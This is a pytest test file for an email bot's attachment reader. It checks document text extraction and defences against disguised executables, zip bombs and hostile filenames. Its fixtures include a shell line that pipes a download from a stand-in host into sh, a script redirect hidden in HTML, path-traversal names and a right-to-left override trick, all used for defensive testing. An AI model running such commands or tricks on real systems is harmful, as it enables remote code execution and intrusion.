"""Attachments as senders really send them: real PDF/DOCX/ODT/XLSX bytes, disguised programs, hostile names,
archives that are bombs, locked or nested too deep."""

from __future__ import annotations

import hashlib
import tracemalloc
import unicodedata

import pytest
from hypothesis import given
from hypothesis import strategies as st

from inbox_bot.core.limits import ArchiveLimits
from inbox_bot.core.models import Attachment, DocumentKind
from inbox_bot.core.reasons import Reason, reason
from inbox_bot.core.reasons import ReasonCode as C
from inbox_bot.triage import attachments
from inbox_bot.triage.attachments import (
    DOCX,
    MAX_EXTRACT_BYTES,
    MAX_NAME_CHARS,
    ODT,
    XLSX,
    read_attachments,
    safe_name,
)
from inbox_bot.triage.classify import classify
from tests.docmakers import (
    make_docx,
    make_odt,
    make_pdf,
    make_png,
    make_xlsx,
    make_zip,
    make_zip_bomb,
    set_declared_size,
    set_encrypted_flag,
)
from tests.mailbuilder import make_docx as word_file

ELF = b"\x7fELF\x02\x01\x01\x00" + bytes(8) + b"\x02\x00\x3e\x00" + bytes(200)
PE = b"MZ\x90\x00\x03" + bytes(59) + b"This program cannot be run in DOS mode.\r\n" + bytes(200)
SCRIPT = b"#!/bin/sh\ncurl http://example.invalid/x | sh\n"
OLE = b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + bytes(4096)


def detail(attachment: Attachment) -> str:
    assert attachment.problem is not None
    return attachment.problem.params.get("detail", "")


def refusal(text: str, *, over_limit: bool = True) -> Reason:
    return reason(C.ARCHIVE_REFUSED, detail=text, over_limit="1" if over_limit else "")


def read_one(filename: str, data: bytes, limits: ArchiveLimits | None = None) -> Attachment:
    found = read_attachments([(filename, data)], limits or ArchiveLimits())
    assert len(found) == 1, found
    return found[0]


# ---------------------------------------------------------------- documents


def test_pdf_gives_text_pages_hash_and_type() -> None:
    data = make_pdf(["Curriculum vitae", "Expérience professionnelle"], pages=2)
    attachment = read_one("CV Karim.pdf", data)
    assert attachment.mime == "application/pdf"
    assert attachment.problem is None
    assert attachment.pages == 2
    assert "Expérience professionnelle" in attachment.text
    assert attachment.size == len(data)
    assert attachment.sha256 == hashlib.sha256(data).hexdigest()
    assert attachment.content == data
    assert attachment.safe_name == "CV_Karim.pdf"
    assert attachment.inside is None


def test_pdf_text_is_the_first_and_last_pages_in_their_places_and_counts_them_all() -> None:
    attachment = read_one("long.pdf", make_pdf(["Note méthodologique"], pages=40))
    assert attachment.pages == 40
    pages = attachment.text.split("\f")
    assert len(pages) == 40  # a page not read is empty, so the n-th piece is page n
    read = [number for number, text in enumerate(pages, start=1) if text]
    assert len(read) == 12
    assert read[:4] == [1, 2, 3, 4] and read[-4:] == [37, 38, 39, 40]  # the start, the end, four between
    assert all(f"Page {number}" in pages[number - 1] for number in read)


def test_a_page_break_typed_in_word_separates_pages() -> None:
    data = word_file(["Curriculum vitae", "\f", "Lettre de motivation"])
    assert read_one("doc.docx", data).text.split("\f") == ["Curriculum vitae\n", "\nLettre de motivation"]


def test_docx_gives_paragraphs_and_table_cells() -> None:
    data = make_docx(["Offre financière"], table=[["Désignation", "Prix unitaire"], ["Atelier", "5 000 DH"]])
    attachment = read_one("offre.docx", data)
    assert attachment.mime == DOCX
    assert attachment.problem is None
    assert "Offre financière" in attachment.text
    assert "Prix unitaire" in attachment.text and "5 000 DH" in attachment.text


def test_odt_and_xlsx_text() -> None:
    odt = read_one("note.odt", make_odt(["Note méthodologique", "Plan de travail"]))
    assert (odt.mime, odt.problem) == (ODT, None)
    assert "Note méthodologique" in odt.text and "Plan de travail" in odt.text
    xlsx = read_one("budget.xlsx", make_xlsx([["Désignation", "Montant"], ["Honoraires", "15000"]]))
    assert (xlsx.mime, xlsx.problem) == (XLSX, None)
    assert "Honoraires" in xlsx.text and "15000" in xlsx.text


def test_plain_text_in_utf8_and_windows_1252() -> None:
    assert read_one("a.txt", "السيرة الذاتية".encode()).text == "السيرة الذاتية"
    latin = read_one("b.txt", "Expérience professionnelle à Rabat".encode("cp1252"))
    assert latin.text == "Expérience professionnelle à Rabat"


def test_image_has_no_text_and_no_problem() -> None:
    attachment = read_one("scan CV.png", make_png())
    assert (attachment.mime, attachment.text, attachment.problem) == ("image/png", "", None)


def test_pdf_without_extension_gets_one() -> None:
    attachment = read_one("CV", make_pdf(["Curriculum vitae"]))
    assert (attachment.mime, attachment.problem, attachment.safe_name) == ("application/pdf", None, "CV.pdf")


def test_files_too_big_to_parse_are_kept_unread() -> None:
    data = make_pdf(["Curriculum vitae"]) + b"%" + bytes(MAX_EXTRACT_BYTES)
    attachment = read_one("big.pdf", data)
    assert (attachment.mime, attachment.problem, attachment.text, attachment.size) == (
        "application/pdf", None, "", len(data))


# ---------------------------------------------------------------- what cannot be read


def test_password_protected_pdf() -> None:
    attachment = read_one("CV.pdf", make_pdf(["Curriculum vitae"], encrypt_password="secret"))
    assert attachment.problem == reason(C.PASSWORD_PROTECTED)
    assert attachment.text == ""


def test_pdf_locked_only_against_editing_is_read() -> None:
    attachment = read_one("CV.pdf", make_pdf(["Curriculum vitae"], owner_password="boss"))
    assert attachment.problem is None
    assert "Curriculum vitae" in attachment.text


def test_truncated_pdf_is_corrupt() -> None:
    data = make_pdf(["Curriculum vitae"], pages=3)
    attachment = read_one("CV.pdf", data[: len(data) // 2])
    assert attachment.problem is not None
    assert attachment.problem.code is C.UNREADABLE_FILE and detail(attachment).startswith("PDF: ")
    assert attachment.mime == "application/pdf"


def test_password_protected_docx_is_an_ole_file() -> None:
    attachment = read_one("Offre financière.docx", OLE)
    assert attachment.problem == reason(C.PROTECTED_OR_OLD, format="Word")
    assert not attachment.safe_name.endswith(".docx")


@pytest.mark.parametrize(("data", "name"), [(ELF, "CV.pdf"), (PE, "offre.pdf"), (SCRIPT, "note.docx"),
                                            (PE, "lettre.docx")])
def test_program_named_like_a_document_is_refused(data: bytes, name: str) -> None:
    attachment = read_one(name, data)
    ext = name.rsplit(".", 1)[1]
    assert attachment.problem is not None and attachment.problem.code is C.DISGUISED_TYPE
    assert attachment.problem.params["named"] == ext and "executable" in attachment.problem.params["real"]
    assert attachment.text == ""
    assert attachment.safe_name.endswith(".bin")
    assert classify(attachment).kind is DocumentKind.OTHER


def test_program_with_its_own_extension_is_refused_too() -> None:
    attachment = read_one("setup.exe", PE)
    assert attachment.problem == reason(C.EXECUTABLE_REFUSED, type="application/x-dosexec")
    assert attachment.safe_name == "setup.bin"


def test_html_with_a_pdf_marker_near_its_start_is_not_a_pdf() -> None:
    data = b"<html><body>\n%PDF-1.7 <script>location='http://example.invalid'</script></body></html>"
    attachment = read_one("Offre.pdf", data)
    assert attachment.mime == "text/html"
    assert attachment.problem == reason(C.DISGUISED_TYPE, real="text/html", named="pdf")
    assert not attachment.safe_name.endswith(".pdf")


@pytest.mark.parametrize(("name", "data", "mime"), [
    ("CV.pdf", make_docx(["Curriculum vitae"]), DOCX),
    ("CV.docx", make_pdf(["Curriculum vitae"]), "application/pdf"),
    ("scan.pdf", make_png(), "image/png"),
    ("note.odt", make_xlsx([["a"]]), XLSX),
])
def test_extension_and_content_must_agree(name: str, data: bytes, mime: str) -> None:
    attachment = read_one(name, data)
    assert attachment.mime == mime
    assert attachment.problem == reason(C.DISGUISED_TYPE, real=mime, named=name.rsplit(".", 1)[1])
    assert attachment.text == ""


def test_other_archive_formats_are_not_opened() -> None:
    attachment = read_one("dossier.rar", b"Rar!\x1a\x07\x00" + bytes(100))
    assert attachment.problem == reason(C.ARCHIVE_UNSUPPORTED, format="rar")


# ---------------------------------------------------------------- zip archives


def test_zip_members_become_attachments_and_are_classified() -> None:
    archive = make_zip({
        "Dossier/CV Karim.pdf": make_pdf(["Curriculum vitae", "Expérience professionnelle", "Formation"]),
        "Dossier/Document1.docx": make_docx(["Note méthodologique", "Approche méthodologique"]),
        "Dossier/annexe.xlsx": make_xlsx([["Prix unitaire", "Total TTC"], ["1500", "1800"]]),
        "__MACOSX/Dossier/._CV Karim.pdf": b"\x00\x05\x16\x07",
        "Dossier/": b"",
    })
    found = read_attachments([("candidature.zip", archive), ("lettre.pdf", make_pdf(["Madame, Monsieur"]))])
    assert [a.filename for a in found] == ["CV Karim.pdf", "Document1.docx", "annexe.xlsx", "lettre.pdf"]
    assert [a.inside for a in found] == ["candidature.zip"] * 3 + [None]
    assert all(a.problem is None for a in found)
    kinds = [classify(a).kind for a in found]
    assert kinds[:3] == [DocumentKind.CV, DocumentKind.METHODOLOGY_NOTE, DocumentKind.FINANCIAL_OFFER]


def test_member_paths_never_escape_and_utf8_names_are_decoded() -> None:
    pdf = make_pdf(["x"])
    archive = make_zip({"../../etc/CV_xx.pdf": pdf})
    # Some zip tools write UTF-8 names without the flag that says so: zipfile then decodes them as cp437
    archive = archive.replace(b"CV_xx.pdf", "CV_é.pdf".encode())
    (member,) = read_attachments([("a.zip", archive)])
    assert member.filename == "CV_é.pdf"
    assert member.safe_name == "CV_é.pdf"


def test_nested_zip_within_depth_is_unpacked() -> None:
    inner = make_zip({"CV.pdf": make_pdf(["Curriculum vitae"])})
    (member,) = read_attachments([("dossier.zip", make_zip({"annexes.zip": inner}))])
    assert (member.filename, member.inside, member.problem) == ("CV.pdf", "dossier.zip > annexes.zip", None)


def test_zip_nested_deeper_than_the_limit_is_refused_whole() -> None:
    level3 = make_zip({"CV.pdf": make_pdf(["Curriculum vitae"])})
    archive = make_zip({"lettre.pdf": make_pdf(["x"]), "l2.zip": make_zip({"l3.zip": level3})})
    (refused,) = read_attachments([("dossier.zip", archive)])
    assert refused.filename == "dossier.zip"
    assert refused.problem == refusal("archives nested 3 deep, limit 2")
    assert read_attachments([("dossier.zip", archive)], ArchiveLimits(max_depth=3))[-1].filename == "CV.pdf"


def test_zip_bomb_is_refused_without_inflating_it() -> None:
    bomb = make_zip_bomb(200 * 1024 * 1024)
    tracemalloc.start()
    (refused,) = read_attachments([("dossier.zip", bomb)])
    _, peak = tracemalloc.get_traced_memory()
    tracemalloc.stop()
    assert refused.problem is not None
    assert refused.problem.code is C.ARCHIVE_REFUSED
    assert detail(refused).startswith("compression ratio ") and detail(refused).endswith(":1 over limit 100")
    assert peak < 5 * 1024 * 1024


def test_zip_bomb_with_lying_headers_is_refused_without_inflating_it() -> None:
    bomb = set_declared_size(make_zip_bomb(200 * 1024 * 1024), 1000)
    tracemalloc.start()
    (refused,) = read_attachments([("dossier.zip", bomb)])
    _, peak = tracemalloc.get_traced_memory()
    tracemalloc.stop()
    assert refused.problem is not None and detail(refused).startswith("corrupt or unsupported archive")
    assert peak < 5 * 1024 * 1024


def test_inflating_is_bounded_even_when_the_headers_fool_the_first_check(monkeypatch: pytest.MonkeyPatch) -> None:
    # zipfile itself stops at the declared size; this checks our own second line, the count of real bytes
    monkeypatch.setattr(attachments, "_check_declared", lambda infos, limits, budget: None)
    bomb = make_zip_bomb(200 * 1024 * 1024)
    tracemalloc.start()
    (refused,) = read_attachments([("dossier.zip", bomb)])
    _, peak = tracemalloc.get_traced_memory()
    tracemalloc.stop()
    assert refused.problem is not None and detail(refused).startswith("compression ratio ")
    assert peak < 64 * 1024 * 1024  # stopped at max_ratio times the compressed size, far from 200 MB


def test_archive_over_the_total_limit_is_refused() -> None:
    members = {f"f{i}.bin": bytes(range(256)) * 4096 for i in range(3)}  # 1 MB each, barely compressible
    limits = ArchiveLimits(max_total_uncompressed_mb=2)
    (refused,) = read_attachments([("a.zip", make_zip(members))], limits)
    assert refused.problem is not None and "MB uncompressed over limit 2 MB" in detail(refused)


def test_member_over_the_size_limit_is_refused() -> None:
    limits = ArchiveLimits(max_member_mb=1, max_ratio=10_000)
    (refused,) = read_attachments([("a.zip", make_zip({"big.txt": bytes(2 * 1024 * 1024)}))], limits)
    assert refused.problem == refusal("'big.txt' unpacks to over 1 MB")


def test_too_many_members_is_refused() -> None:
    archive = make_zip({f"page{i}.txt": b"x" for i in range(201)})
    (refused,) = read_attachments([("scans.zip", archive)])
    assert refused.problem == refusal("201 files over limit 200")
    assert len(read_attachments([("scans.zip", archive)], ArchiveLimits(max_members=201))) == 201


def test_encrypted_zip_is_refused() -> None:
    archive = set_encrypted_flag(make_zip({"CV.pdf": make_pdf(["Curriculum vitae"])}))
    (refused,) = read_attachments([("dossier.zip", archive)])
    assert refused.problem == refusal("encrypted archive", over_limit=False)
    assert refused.mime == "application/zip"


@pytest.mark.parametrize(("data", "problem"), [
    (make_zip({}), "archive holds no files"),
    (b"PK\x03\x04" + bytes(60), "corrupt or unsupported archive: File is not a zip file"),
])
def test_empty_or_corrupt_zip_says_so(data: bytes, problem: str) -> None:
    assert read_one("dossier.zip", data).problem == refusal(problem, over_limit=False)


def test_zip_based_document_that_is_a_bomb_is_refused() -> None:
    document = make_zip({"word/document.xml": bytes(20 * 1024 * 1024), "[Content_Types].xml": b"<x/>"})
    attachment = read_one("CV.docx", document)
    assert attachment.mime == DOCX
    assert attachment.problem is not None and attachment.problem.code is C.UNREADABLE_FILE
    assert detail(attachment).startswith("compression ratio")


# ---------------------------------------------------------------- safe names


@pytest.mark.parametrize(("name", "mime", "expected"), [
    ("../../etc/passwd", "text/plain", "passwd.txt"),
    ("/abs/x.pdf", "application/pdf", "x.pdf"),
    ("C:\\Users\\karim\\CV.PDF", "application/pdf", "CV.pdf"),
    ("a\x00b.pdf", "application/pdf", "a_b.pdf"),
    ("CON.pdf", "application/pdf", "file_CON.pdf"),
    ("com1.docx", DOCX, "file_com1.docx"),
    ("\x1b[31mred\x07.pdf", "application/pdf", "31mred.pdf"),
    ("cv\u202efdp.exe", "application/pdf", "cv_fdp.pdf"),  # right-to-left override trick
    ("CV.pdf.exe", "application/x-dosexec", "CV_pdf.bin"),
    ("..", "application/pdf", "attachment.pdf"),
    ("", "application/octet-stream", "attachment.bin"),
    ("السيرة الذاتية.docx", DOCX, "السيرة_الذاتية.docx"),
    ("photo.JPEG", "image/jpeg", "photo.jpeg"),
])
def test_hostile_and_odd_names_get_safe_names(name: str, mime: str, expected: str) -> None:
    assert safe_name(name, mime) == expected


def test_long_names_are_cut_but_keep_their_extension() -> None:
    name = safe_name("x" * 1000 + ".pdf", "application/pdf")
    assert name == "x" * (MAX_NAME_CHARS - 4) + ".pdf"
    wide = safe_name("\U0001d54f" * 200 + ".pdf", "application/pdf")  # 4 UTF-8 bytes each
    assert len(wide.encode()) <= 255


def test_same_names_in_one_mail_get_distinct_safe_names() -> None:
    pdf = make_pdf(["x"])
    found = read_attachments([("CV.pdf", pdf), ("cv.pdf", pdf), ("dossier.zip", make_zip({"CV.pdf": pdf}))])
    assert [a.safe_name for a in found] == ["CV.pdf", "cv_2.pdf", "CV_3.pdf"]


_MIMES = st.sampled_from(["application/pdf", DOCX, "image/jpeg", "text/plain", "application/x-dosexec",
                          "application/octet-stream", "application/zip"])
_EXECUTABLE_EXTS = {"exe", "com", "bat", "cmd", "scr", "js", "vbs", "ps1", "sh", "jar", "msi", "dll", "lnk"}


@given(st.text(), _MIMES, st.text(max_size=5))
def test_any_name_gives_a_safe_name(name: str, mime: str, suffix: str) -> None:
    safe = safe_name(name, mime, suffix=suffix)
    assert safe and 0 < len(safe) <= MAX_NAME_CHARS
    assert len(safe.encode("utf-8")) <= 255
    assert "/" not in safe and "\\" not in safe and ".." not in safe and "\x00" not in safe
    assert not any(unicodedata.category(char) in ("Cc", "Cf", "Zl", "Zp") for char in safe)
    stem, _, ext = safe.rpartition(".")
    assert stem and stem.upper() not in {"CON", "PRN", "AUX", "NUL", "COM1", "LPT1"}
    assert ext and ext not in _EXECUTABLE_EXTS
    assert safe.count(".") == 1
